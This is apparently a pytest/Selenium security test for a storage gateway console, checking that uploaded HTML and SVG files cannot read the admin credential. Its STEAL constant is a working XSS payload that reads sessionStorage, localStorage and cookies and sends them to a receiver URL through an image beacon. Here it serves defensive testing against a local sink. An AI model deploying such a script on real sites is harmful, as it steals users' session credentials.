"""User content never runs with the console's authority, in a real browser (docs/security.md).

The console keeps its credential (the admin key here) in the tab's `sessionStorage`. An uploader stores an HTML
page and an SVG image whose scripts read `sessionStorage`, `localStorage` and `document.cookie`, write what they
read into the document and send it to a receiver on another loopback port. The admin, signed in, opens the
object's download URL (v0 `alt=media&token=…`) in the console's own tab. The document must render (it is served
inline, as its uploader asked) in an opaque origin where no script runs: the title and text stay the static
ones, the receiver hears nothing, and `sessionStorage` is out of reach (SecurityError). Once per backend.

With `--console-listen`, the console is served only on its own listener (its own origin; the main listener
answers `/console/` with 404) and still works: signed in there, it lists the bucket through the main
listener's API."""
from __future__ import annotations

import json
import os
import threading
import urllib.parse
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver

import backends
from chromium import by_testid, one, wait_for
from harness import ALLOW_ALL_RULES, Server, free_port, object_url, request, signing_key_file, upload_url

BUCKET = "isolation-bucket"
CREDENTIAL_KEY = "portcullis.console.credential"

# What each payload's script does: read everything the page's origin keeps, show it, and send it out.
STEAL = """
var seen;
try {
  seen = 'read:' + JSON.stringify(Object.entries(sessionStorage)) + JSON.stringify(Object.entries(localStorage))
    + document.cookie;
} catch (e) {
  seen = 'blocked:' + e.name;
}
document.title = seen;
document.getElementById('m').textContent = seen;
new Image().src = '@RECEIVER@/leak?' + encodeURIComponent(seen);
"""
PAYLOADS = {
    "html": ("payload/page.html", "text/html; charset=utf-8",
             "<!doctype html><html><head><title>static</title></head><body><p id='m'>static</p>"
             "<script>" + STEAL + "</script></body></html>"),
    "svg": ("payload/image.svg", "image/svg+xml",
            "<svg xmlns='http://www.w3.org/2000/svg' width='300' height='40'><title>static</title>"
            "<text id='m' x='4' y='20'>static</text><script>" + STEAL + "</script></svg>"),
}


class Receiver:
    """An HTTP server on a loopback port that records every request target (the exfiltration sink)."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def receiver() -> Iterator[Receiver]:
    sink = Receiver()
    yield sink
    sink.close()


def start_gateway(workdir, bucket_url: str, extra: list[str] = ()) -> tuple[Server, str]:  # type: ignore[no-untyped-def]
    (workdir / "storage.rules").write_text(ALLOW_ALL_RULES)
    signing_key_file(workdir / "signing.key", "k1")
    admin_key = os.urandom(24).hex()
    (workdir / "admin.key").write_text(admin_key + "\n")
    server = Server(workdir=workdir, name="isolation", args=[
        "--bucket", f"{BUCKET}={bucket_url}", "--rules", "storage.rules", "--signing-key", "signing.key",
        "--admin-key", "admin.key", *extra]).start()
    return server, admin_key


# The headers are the gateway's, whatever serves the bytes: s3:// runs on moto only (RGW adds a browser run
# and tests nothing new here; test_user_content_isolation.py covers it without a browser).
@pytest.fixture(scope="module", params=backends.params(("file", "gcs", "s3")))
def gateway(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, receiver: Receiver
            ) -> Iterator[dict[str, object]]:
    """A gateway on a fresh bucket of the backend, holding both payloads (inline, as their uploader chose)."""
    workdir = tmp_path_factory.mktemp(f"isolation-{request.param}")
    server, admin_key = start_gateway(workdir, backends.bucket_url(request.param, workdir))
    admin = {"Authorization": f"Bearer {admin_key}"}
    urls = {}
    for kind, (name, content_type, text) in PAYLOADS.items():
        body = text.replace("@RECEIVER@", receiver.url).encode()
        made = request_ok("POST", upload_url(server.url, BUCKET, name), body, {**admin, "Content-Type": content_type})
        token = made["downloadTokens"].split(",")[0]
        request_ok("PATCH", object_url(server.url, BUCKET, name), json.dumps({"contentDisposition": "inline"}).encode(),
                   {**admin, "Content-Type": "application/json"})
        urls[kind] = object_url(server.url, BUCKET, name, alt="media", token=token)
    yield {"server": server, "admin_key": admin_key, "urls": urls}
    server.stop(timeout=10)
    server.kill()


def request_ok(method: str, url: str, body: bytes, headers: dict[str, str]) -> dict[str, object]:
    response = request(method, url, body=body, headers=headers)
    assert response.status == 200, (method, url, response.status, response.body[:300])
    return response.json()  # type: ignore[return-value]


def sign_in(driver: WebDriver, console: str, credential: str) -> None:
    """Opens the console at `console` in a clean tab state and signs in with `credential`."""
    driver.get(console)
    driver.execute_script("sessionStorage.clear()")
    driver.get(console)
    field = one(driver, "signin-key")
    field.send_keys(credential)
    one(driver, "signin-submit").click()
    wait_for(lambda: driver.find_element(By.ID, "app").is_displayed(), message="the signed-in console")


def loaded(driver: WebDriver) -> bool:
    return driver.execute_script("return document.readyState") == "complete"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_an_uploaded_document_opened_in_the_console_tab_cannot_read_the_credential(
        driver: WebDriver, gateway: dict[str, object], receiver: Receiver, kind: str) -> None:
    server: Server = gateway["server"]  # type: ignore[assignment]
    admin_key = str(gateway["admin_key"])
    sign_in(driver, f"{server.url}/console/", admin_key)
    # The credential the payload is after is really in this tab's storage for the gateway's origin.
    assert driver.execute_script(f"return sessionStorage.getItem('{CREDENTIAL_KEY}')") == admin_key
    receiver.hits.clear()

    driver.get(gateway["urls"][kind])  # type: ignore[index]
    wait_for(lambda: loaded(driver), message="the payload document")
    # The load event waits for the beacon image the script would have started: anything it sent has arrived.
    leaked = [hit for hit in receiver.hits if "leak" in hit]
    text = driver.find_element(By.ID, "m").text
    origin, storage = driver.execute_script(
        "let s; try { sessionStorage.length; s = 'readable'; } catch (e) { s = e.name; }"
        " return [window.origin, s];")

    assert admin_key not in driver.title and admin_key not in text and admin_key not in str(leaked), \
        f"the {kind} payload read the credential: title {driver.title!r}, text {text!r}, sent {leaked}"
    assert not leaked, f"the {kind} payload's script ran and sent {leaked}"
    assert text == "static", f"the {kind} payload's script ran: {text!r}"
    # Rendered as a document (inline), in an opaque origin without access to the gateway origin's storage.
    assert origin == "null", origin
    assert storage == "SecurityError", storage

    # The console's tab still holds its credential for the gateway's origin, untouched.
    driver.get(f"{server.url}/console/")
    assert driver.execute_script(f"return sessionStorage.getItem('{CREDENTIAL_KEY}')") == admin_key


def test_the_console_on_its_own_listener_lists_through_the_main_one(
        driver: WebDriver, tmp_path_factory: pytest.TempPathFactory) -> None:
    workdir = tmp_path_factory.mktemp("console-listen")
    console_port = free_port()
    server, admin_key = start_gateway(workdir, f"file:{workdir / 'data'}",
                                      ["--console-listen", f"127.0.0.1:{console_port}"])
    try:
        request_ok("POST", upload_url(server.url, BUCKET, "reports/q4.txt"), b"q4\n",
                   {"Authorization": f"Bearer {admin_key}", "Content-Type": "text/plain"})
        console = f"http://127.0.0.1:{console_port}/console/"
        assert request("GET", f"{server.url}/console/").status == 404
        assert request("GET", console).status == 200

        sign_in(driver, console, admin_key)
        wait_for(lambda: by_testid(driver, "folder-row"), message="the bucket listed through the main listener")
        assert {e.get_attribute("data-prefix") for e in by_testid(driver, "folder-row")} == {"reports/"}
        # The credential lives on the console's origin only.
        assert driver.execute_script(f"return sessionStorage.getItem('{CREDENTIAL_KEY}')") == admin_key
        assert driver.execute_script("return window.origin") == f"http://127.0.0.1:{console_port}"
        driver.get(console + f"#/b/{BUCKET}/o/" + urllib.parse.quote("reports", safe="") + "/")
        wait_for(lambda: by_testid(driver, "file-row", name="reports/q4.txt"), message="the folder listed")
    finally:
        server.stop(timeout=10)
        server.kill()
